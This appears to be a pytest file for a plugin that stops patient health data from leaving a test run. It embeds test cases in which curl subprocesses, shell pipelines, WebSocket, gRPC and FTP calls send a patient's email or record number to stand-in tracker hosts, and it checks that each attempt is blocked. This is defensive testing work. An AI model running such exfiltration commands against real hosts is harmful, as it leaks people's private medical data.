"""Ways out that are no HTTP client of Python's: the rule that each falls under, and that it is contained."""

from __future__ import annotations

import pytest

CONTAIN = "--phiguard-network=contain"
HELD = "held = pytest.raises(OSError, match='phiguard_network')\n\n"


def test_child_process(suite):
    """A child that is told to send a patient to a third party fails its test, and is not started."""
    suite.write(
        "import subprocess, sys\n" + HELD + "URL = 'https://collect.tracker.example/v1'\n"
        "def test_argument(phi_patient):\n"
        "    with held:\n        subprocess.run(['curl', '-d', f'email={phi_patient.email}', URL])\n\n"
        "def test_address(phi_patient):\n"
        "    with held:\n        subprocess.run(f'curl -s {URL}?mrn={phi_patient.mrn} | cat', shell=True)\n\n"
        "def test_input(phi_patient):\n"
        "    with held:\n        subprocess.run(['curl', '-d@-', URL], input=phi_patient.email, text=True)\n\n"
        "def test_environment(phi_patient):\n"
        "    with held:\n        subprocess.Popen(['curl', URL], env={'EMAIL': phi_patient.email})\n\n"
        "def test_first_party(phi_patient):\n"
        "    code = 'import sys; print(sys.argv[2])'\n"
        "    done = subprocess.run([sys.executable, '-c', code, 'http://localhost/', phi_patient.email],\n"
        "                          capture_output=True, text=True)\n"
        "    assert done.stdout.strip() == phi_patient.email\n\n"
        "def test_clean(phi_patient):\n"
        "    assert subprocess.run([sys.executable, '-c', 'pass', URL]).returncode == 0\n"
    )
    suite.run(CONTAIN).assert_outcomes(failed=4, passed=2)
    assert set(suite.rules) == {"PHG101"}


def test_websocket_message(suite):
    """A message over a WebSocket is a frame, and its handshake a request."""
    pytest.importorskip("websockets")
    suite.write(
        "import threading, websockets\nfrom websockets.sync.client import connect\nfrom websockets.sync.server import serve\n"
        "received = []\n\n"
        "@pytest.fixture\ndef url():\n"
        "    with serve(lambda connection: received.extend(connection), '127.0.0.1', 0) as server:\n"
        "        thread = threading.Thread(target=server.serve_forever)\n        thread.start()\n"
        "        yield f'ws://127.0.0.1:{server.socket.getsockname()[1]}/'\n"
        "        server.shutdown()\n        thread.join()\n\n"
        "def test_message(url, phi_patient):\n"
        "    with pytest.raises(websockets.ConnectionClosed):\n"
        "        with connect(url) as connection:\n            connection.send(f'to {phi_patient.email}')\n"
        "    assert received == []\n\n"
        "def test_handshake(url, phi_patient):\n"
        "    with pytest.raises(OSError):\n        connect(url + '?email=' + phi_patient.email)\n"
    )
    suite.run(CONTAIN, ini=["phiguard_third_party = 127.0.0.1"]).assert_outcomes(failed=2)
    assert sorted(suite.rules) == ["PHG101", "PHG106"]


def test_call_of_grpc(suite):
    """A call of a service is a request."""
    pytest.importorskip("grpc")
    suite.write(
        "import grpc\n\n"
        "def test_call(phi_patient):\n"
        "    with grpc.insecure_channel('collect.tracker.example:443') as channel:\n"
        "        with pytest.raises(grpc.RpcError, match='phiguard_network'):\n"
        "            channel.unary_unary('/a.B/c')(phi_patient.email.encode(), timeout=5)\n"
    )
    suite.run(CONTAIN).assert_outcomes(failed=1)
    assert suite.rules == ["PHG101"]


def test_file_by_ftp(suite):
    """A file that is stored is a write to a socket."""
    suite.write(
        "import ftplib, io\n\n"
        "def test_file(phi_patient):\n"
        "    connection = ftplib.FTP()\n    connection.host, connection.sock = 'files.tracker.example', None\n"
        "    with pytest.raises(ConnectionRefusedError):\n"
        "        connection.storbinary('STOR a.csv', io.BytesIO(phi_patient.email.encode()))\n"
    )
    suite.run(CONTAIN).assert_outcomes(failed=1)
    assert suite.rules == ["PHG106"]
